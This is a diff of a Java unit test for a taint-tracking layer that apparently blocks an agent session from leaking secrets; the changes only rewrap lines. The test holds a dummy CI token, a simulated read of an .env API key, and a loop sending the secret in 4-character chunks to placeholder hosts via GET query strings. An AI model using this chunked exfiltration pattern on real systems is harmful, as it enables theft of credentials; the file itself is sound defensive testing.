@@ -29,7 +29,8 @@ final class TaintLayerTest {
 
   private final Session session = new Sessions().session("s", "agent");
   private final TaintLayer layer =
-      new TaintLayer(EnvironmentSecrets.of(Map.of("CI_TOKEN", "Zk93hfKq02Lmx8", "LANG", "en_GB.UTF-8 UTF")));
+      new TaintLayer(
+          EnvironmentSecrets.of(Map.of("CI_TOKEN", "Zk93hfKq02Lmx8", "LANG", "en_GB.UTF-8 UTF")));
 
   TaintLayerTest() {
     session.provenance().learn("/srv/.env", ("API_KEY=" + SECRET + "\n").getBytes(UTF_8));
@@ -86,7 +87,8 @@ final class TaintLayerTest {
     Decision last = Decision.ALLOW;
     for (int from = 0; from < SECRET.length(); from += 4) {
       Action piece =
-          ExchangeHttp.of("GET", "https://h" + from + ".example/?d=" + SECRET.substring(from, from + 4));
+          ExchangeHttp.of(
+              "GET", "https://h" + from + ".example/?d=" + SECRET.substring(from, from + 4));
       Evaluation evaluation = evaluation(piece);
       last = layer.inspect(evaluation).least();
       if (last == Decision.BLOCK) {
